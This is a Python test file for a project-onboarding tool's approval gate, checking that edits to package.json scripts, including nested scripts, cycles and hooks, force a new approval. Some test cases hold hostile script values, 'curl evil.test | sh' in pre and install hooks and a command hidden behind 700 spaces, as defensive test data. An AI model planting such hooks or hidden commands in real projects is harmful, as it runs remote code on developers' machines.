"""What a person approves is exactly what would run."""

import json
from pathlib import Path

import pytest

from onboard.project import understand
from onboard.project.trust import Approval, Gate, commands, host_in_words

SCRIPTS = {
    "dev": "next dev",
    "db:push": "pnpm run schema && pnpm db:seed",
    "schema": "drizzle-kit push",
    "db:seed": "tsx s.ts",
}


def repository(folder: Path, scripts: dict[str, str] | None = None) -> Path:
    folder.mkdir(exist_ok=True)
    (folder / ".env.example").write_text("DATABASE_URL=\n")
    package = {"dependencies": {"next": "16", "drizzle-orm": "1"}, "devDependencies": {"drizzle-kit": "1"}}
    (folder / "package.json").write_text(json.dumps(package | {"scripts": scripts or SCRIPTS}))
    (folder / "pnpm-lock.yaml").write_text("")
    return folder


def asked(folder: Path, state: Path) -> Approval:
    project = understand(folder)
    hosts = {".neon.tech": ["DATABASE_URL"], "api.neon.tech": ["DATABASE_URL"]}
    found = commands(project, project.app)
    return Gate(state).ask(project, commands=found, hosts=hosts, files=[".env.local"], keyring_folder=None)


def test_what_was_approved_is_approved_here_and_nowhere_else(tmp_path: Path) -> None:
    gate, here = Gate(tmp_path / "state"), repository(tmp_path / "here")
    gate.approve(asked(here, tmp_path / "state"), "now")

    assert gate.approved(asked(here, tmp_path / "state"))
    assert not gate.approved(asked(repository(tmp_path / "copy"), tmp_path / "state"))


def test_a_script_that_a_script_runs_is_shown(tmp_path: Path) -> None:
    project = understand(repository(tmp_path / "r"))

    assert dict(commands(project, project.app))["pnpm db:push"].split("; ") == [
        "pnpm run schema && pnpm db:seed", "drizzle-kit push", "tsx s.ts",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "text"),
    [
        pytest.param("schema", "drizzle-kit push --force", id="a-script-behind-the-script"),
        pytest.param("predb:push", "curl evil.test | sh", id="a-hook"),
        pytest.param("preinstall", "curl evil.test | sh", id="an-install-hook"),
        pytest.param("dev", "next  dev", id="a-blank"),
        pytest.param("dev", "next dev" + " " * 700 + "; curl evil.test", id="behind-what-is-shown"),
        pytest.param("dev", "next dev \u200b", id="an-invisible-character"),
    ],
)
def test_another_script_text_asks_again(tmp_path: Path, name: str, text: str) -> None:
    gate, here = Gate(tmp_path / "state"), repository(tmp_path / "here")
    gate.approve(asked(here, tmp_path / "state"), "now")
    repository(here, SCRIPTS | {name: text})
    again = asked(here, tmp_path / "state")

    assert not gate.approved(again)
    assert again.changed


def test_scripts_that_run_each_other_end(tmp_path: Path) -> None:
    scripts = {"db:push": "pnpm a && drizzle-kit push", "a": "pnpm b", "b": "pnpm a && pnpm db:push"}
    project = understand(repository(tmp_path / "r", scripts))

    assert dict(commands(project, project.app))["pnpm db:push"].split("; ") == list(scripts.values())


def test_hosts_are_told_by_the_variables_that_go_there(tmp_path: Path) -> None:
    approval = asked(repository(tmp_path / "r"), tmp_path / "state")

    assert approval.sends == ((("DATABASE_URL",), ("*.neon.tech", "api.neon.tech")),)
    assert host_in_words("api.stripe.com") == "api.stripe.com"


def test_an_approval_can_be_taken_back(tmp_path: Path) -> None:
    gate, here = Gate(tmp_path / "state"), repository(tmp_path / "here")
    approval = asked(here, tmp_path / "state")
    gate.approve(approval, "now")

    assert gate.revoke(approval.root)
    assert not gate.approved(approval)
    assert not gate.revoke(approval.root)
